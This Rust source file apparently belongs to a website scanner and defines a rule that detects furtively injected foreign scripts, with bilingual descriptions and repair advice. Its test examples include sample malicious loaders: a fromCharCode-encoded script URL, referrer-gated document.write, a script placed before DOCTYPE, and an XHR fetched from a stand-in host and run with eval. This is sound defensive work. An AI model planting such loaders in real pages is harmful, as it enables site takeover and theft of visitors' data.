//! `injected-loader`: code of a foreign host is brought into the page on a furtive way.
//!
//! Nearly every site brings in code of others by code: counters, advertisements, chat. They all
//! name their host in plain letters and load for everybody, because they have nothing to hide.

use std::{cell::LazyCell, sync::Arc};

use url::{Host, Url};

use super::{
    Answer, Example, Hit, Observation, Proof, Rule,
    destination::{identity_signal, signals_to},
    imitation::imitated,
    loader::{is_known_loader, names_services},
    moves::condition_signals,
    running::{ran_signal, unpacked},
};
use crate::{
    finding::{Family, Signal, SignalKind, Text},
    identity::Identity,
    page::{
        Page, Script, ScriptKind, Spot,
        script::{Condition, Destination, Load, Trigger},
    },
};

pub(super) const RULE: Rule = Rule {
    id: "injected-loader",
    family: Family::Script,
    what: Text {
        vi: "Mã lén kéo tập lệnh từ máy chủ lạ: giấu địa chỉ, chỉ chạy với một số người, đặt ngoài khung trang, hoặc giả tên thư viện quen thuộc.",
        en: "Code that brings in a script of a foreign host furtively: the address disguised, only for some visitors, outside the page's frame, or under the name of a well-known library.",
    },
    why: Text {
        vi: "Kẻ tấn công có thể thay nội dung, chuyển hướng hoặc đánh cắp dữ liệu bất cứ lúc nào mà không cần sửa trang lần nữa.",
        en: "Attackers can change the page, move visitors or steal data at any time without touching the page again.",
    },
    repair: Text {
        vi: "Xoá đoạn mã khỏi giao diện, tiện ích hoặc cơ sở dữ liệu; tìm cùng đoạn mã trong mọi tệp .js và .php; cập nhật phần mềm, đổi mật khẩu; nếu là dịch vụ của cơ quan thì khai báo máy chủ.",
        en: "Remove the code from the theme, widget or database; look for it in all .js and .php files; update the software, change passwords; if it is a service of the agency's, vouch for its host.",
    },
    examine,
    caught: &[
        Example::page(
            "the address spelt in character codes",
            &[Answer::all(
                r#"<body><p>Tin</p><script>var e=document.createElement('script');e.src=String.fromCharCode(104,116,116,112,115,58,47,47,120,49,46,101,120,97,109,112,108,101,47,97,46,106,115);document.head.appendChild(e);</script></body>"#,
            )],
        ),
        Example::page(
            "only for visitors from a search result",
            &[Answer::all(
                r#"<body><p>Tin</p><script>if(/google|coccoc/.test(document.referrer)){document.write('<script src="https://x1.example/a.js"><\/script>')}</script></body>"#,
            )],
        ),
        Example::page(
            "under a name that looks like a library's",
            &[Answer::all(
                r#"<body><p>Tin</p><script src="https://jquery-cdn.example/jquery.min.js"></script></body>"#,
            )],
        ),
        Example::page(
            "before the page begins",
            &[Answer::all(
                r#"<script src="https://x1.example/a.js"></script><!DOCTYPE html><html><body><p>Tin</p></body></html>"#,
            )],
        ),
        Example::page(
            "text that is fetched and run, once for each visitor from elsewhere",
            &[Answer::all(
                r#"<body><p>Tin</p><script>if(document.referrer&&!document.cookie){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4)eval(x.responseText)};x.open('GET','https://x1.example/a');x.send()}</script></body>"#,
            )],
        ),
    ],
    clean: &[
        Example::page(
            "a counter and a chat as their makers write them",
            &[Answer::all(
                r#"<body><script>(function(d,t){var g=d.createElement(t),s=d.getElementsByTagName(t)[0];g.async=1;g.src='https://dem.example/c.js?id='+Date.now();s.parentNode.insertBefore(g,s)})(document,'script');</script><script src="https://chat.example/w.js" async></script></body>"#,
            )],
        ),
        Example::page(
            "the way of writing a script that was common once",
            &[Answer::all(
                r#"<body><script>var h=(("https:"==document.location.protocol)?"https://ssl.":"http://www.");document.write(unescape("%3Cscript src='"+h+"dem.example/c.js' type='text/javascript'%3E%3C/script%3E"));</script></body>"#,
            )],
        ),
        Example::page(
            "analytics only after consent, and a library only for old browsers",
            &[Answer::all(
                r#"<body><script>if(document.cookie.indexOf('dong-y=1')>-1){var s=document.createElement('script');s.src='https://dem.example/c.js';document.head.appendChild(s)}if(/MSIE/.test(navigator.userAgent)){document.write('<script src="https://cdnjs.cloudflare.com/x.js"><\/script>')}</script></body>"#,
            )],
        ),
    ],
};

fn examine(observation: &Observation<'_>, hits: &mut Vec<Hit>) {
    for (identity, page) in observation.pages() {
        let frame = Frame::of(page);
        let mut found: Vec<(Url, Vec<Signal>, Proof)> = Vec::new();
        for script in &page.scripts {
            let place = frame.place_of(&script.spot);
            let manages = LazyCell::new(|| {
                script.facts.as_ref().is_some_and(|facts| names_services(observation, page, facts))
            });
            let element = || Proof::Element(Arc::clone(page), script.spot.clone());
            for load in script.facts.iter().flat_map(|facts| &facts.loads) {
                let Some(url) = address_of(page, load) else { continue };
                let ran = load.ran.as_ref();
                let proof = match script.kind {
                    _ if ran.is_some_and(|ran| ran.layer.is_some()) => {
                        unpacked(page, &script.spot, ran, url.as_str()).unwrap_or_else(element)
                    }
                    ScriptKind::Inline if !load.span.is_empty() => {
                        Proof::Code(Arc::clone(page), script.spot.clone(), load.span.clone())
                    }
                    _ => element(),
                };
                let signals = by_code(script, load, &url, place, *manages);
                found.extend(signals.map(|signals| (url, signals, proof)));
            }
            if let Some(url) = &script.src {
                let named = || named_for_spam(observation, url);
                let signals = as_written(url, place).or_else(named);
                found.extend(signals.map(|signals| (url.clone(), signals, element())));
            }
        }
        found.extend(in_title(page));
        for (url, own, proof) in found {
            let Some(mut signals) = signals_to(observation, &url) else { continue };
            if is_known_loader(observation, &url) {
                continue;
            }
            let key = url.host_str().unwrap_or_default().to_owned();
            signals.extend(own);
            signals.extend(only_from_search(observation, identity, &key));
            hits.push(Hit { key, subject: url.to_string(), identity, signals, proof });
        }
    }
}

/// A script of a host that is named as spam is: it need not hide to be out of place.
fn named_for_spam(observation: &Observation<'_>, url: &Url) -> Option<Vec<Signal>> {
    let speaks = |signal: &Signal| matches!(signal.kind, SignalKind::Address | SignalKind::Listed);
    let named = signals_to(observation, url)?.iter().any(speaks);
    named.then(|| vec![Signal::new(SignalKind::Loads, "script")])
}

/// What is furtive about a script that code brings in; `None` where nothing is. Code that
/// `manages` names well-known services as well: it places advertisements.
fn by_code(
    script: &Script,
    load: &Load,
    url: &Url,
    place: Option<&'static str>,
    manages: bool,
) -> Option<Vec<Signal>> {
    let host = url.host_str()?;
    let fetched = load.element == "eval";
    let counts = fetched && !manages
        || load.element == "script"
        || load.element == "iframe" && load.disguised;
    if load.trigger == Trigger::Uncalled || !counts {
        return None;
    }
    let picks = if manages { Picks::Nobody } else { Picks::of(&load.conditions) };
    let imitated = imitated(host);
    // Attributes hold a call of something, not a loader of their own.
    let in_attribute =
        matches!(script.kind, ScriptKind::Handler(_)) && load.trigger == Trigger::Load;
    let furtive = load.disguised
        || picks == Picks::Victims
        || imitated.is_some()
        || has_no_name(url)
        || in_attribute
        || place == Some(BEFORE);
    let mut signals = Vec::new();
    if furtive {
        signals.push(Signal::new(SignalKind::Loads, load.element.clone()));
    }
    if load.disguised {
        signals.push(Signal::new(SignalKind::Encoded, "host"));
    } else if fetched {
        // Nobody who looks for scripts of others finds this one.
        signals.push(Signal::new(SignalKind::Encoded, "eval"));
    }
    if furtive {
        signals.extend(ran_signal(load.ran.as_ref()));
    }
    // What a run proves of a host that is named in the open says which device it serves.
    let serves = picks == Picks::Devices && load.ran.as_ref().is_some_and(|ran| ran.alone);
    if picks != Picks::Nobody && (furtive || !serves) {
        signals.extend(condition_signals(&load.conditions));
    }
    signals.extend(imitated.map(|service| Signal::new(SignalKind::Imitates, service)));
    let place = if in_attribute { Some("in-attribute") } else { place };
    signals.extend(place.map(|place| Signal::new(SignalKind::Place, place)));
    (!signals.is_empty()).then_some(signals)
}

/// What is furtive about a script that stands in the page; nothing but a note where its host has no
/// name.
fn as_written(url: &Url, place: Option<&'static str>) -> Option<Vec<Signal>> {
    let imitated = imitated(url.host_str()?);
    let mut signals = Vec::new();
    if imitated.is_some() || place == Some(BEFORE) {
        signals.push(Signal::new(SignalKind::Loads, "script"));
    }
    signals.extend(imitated.map(|service| Signal::new(SignalKind::Imitates, service)));
    signals.extend(place.map(|place| Signal::new(SignalKind::Place, place)));
    (!signals.is_empty() || has_no_name(url)).then_some(signals)
}

/// The tag of a foreign script in a title: somebody posted it, and where the title is not escaped,
/// it runs.
fn in_title(page: &Arc<Page>) -> Option<(Url, Vec<Signal>, Proof)> {
    let title = &page.title;
    let (_, tag) = title.split_once("<script")?;
    let (_, after) = tag.split_once("src=")?;
    let address = after.trim_start_matches(['"', '\'']);
    let end = address.find(['"', '\'', '>', ' ']).unwrap_or(address.len());
    let url = page.url.join(address.get(..end)?).ok()?;
    let signals =
        vec![Signal::new(SignalKind::Loads, "script"), Signal::new(SignalKind::Place, "in-title")];
    Some((url, signals, Proof::Words(title.clone())))
}

fn address_of(page: &Page, load: &Load) -> Option<Url> {
    match &load.target {
        Destination::Whole(address) | Destination::Begins(address) => page.url.join(address).ok(),
        Destination::Element(_) | Destination::Unknown => None,
    }
}

/// Whether code chooses whom it serves.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Picks {
    /// Consent is a cookie, new addresses for old answers come from the clock.
    Nobody,
    /// Phones have widgets of their own, and old browsers need help.
    Devices,
    /// Who comes from where, or has not been here with this device: some are to see nothing.
    Victims,
}

impl Picks {
    fn of(conditions: &[Condition]) -> Self {
        let has = |condition| conditions.contains(&condition);
        let device = has(Condition::Device);
        if has(Condition::Referrer) || device && has(Condition::Cookie) {
            Self::Victims
        } else if device {
            Self::Devices
        } else {
            Self::Nobody
        }
    }
}

/// A number in place of a name, or a port of its own.
fn has_no_name(url: &Url) -> bool {
    !matches!(url.host(), Some(Host::Domain(_))) || url.port().is_some()
}

/// A signal if only visitors from a search result get the host.
fn only_from_search(
    observation: &Observation<'_>,
    identity: Identity,
    host: &str,
) -> Option<Signal> {
    let signal = identity_signal(observation, identity, |other| other.source.contains(host))?;
    (identity == Identity::FromSearch).then_some(signal)
}

const BEFORE: &str = "before-begin";
const AFTER: &str = "after-end";

/// Where the page itself begins and ends in its source.
struct Frame {
    begin: usize,
    end: usize,
}

impl Frame {
    fn of(page: &Page) -> Self {
        let source = page.source.as_bytes();
        let opens = |at: &usize| {
            let rest = source.get(*at..).unwrap_or_default();
            starts_with(rest, b"<!doctype") || starts_with(rest, b"<html")
        };
        let closes = |at: &usize| starts_with(source.get(*at..).unwrap_or_default(), b"</html");
        let begin = memchr::memchr_iter(b'<', source).find(opens).unwrap_or(0);
        let end = memchr::memrchr_iter(b'<', source).find(closes).unwrap_or(source.len());
        Self { begin, end }
    }

    fn place_of(&self, spot: &Spot) -> Option<&'static str> {
        if spot.at < self.begin {
            Some(BEFORE)
        } else if spot.at > self.end {
            Some(AFTER)
        } else {
            None
        }
    }
}

fn starts_with(text: &[u8], start: &[u8]) -> bool {
    text.get(..start.len()).is_some_and(|own| own.eq_ignore_ascii_case(start))
}
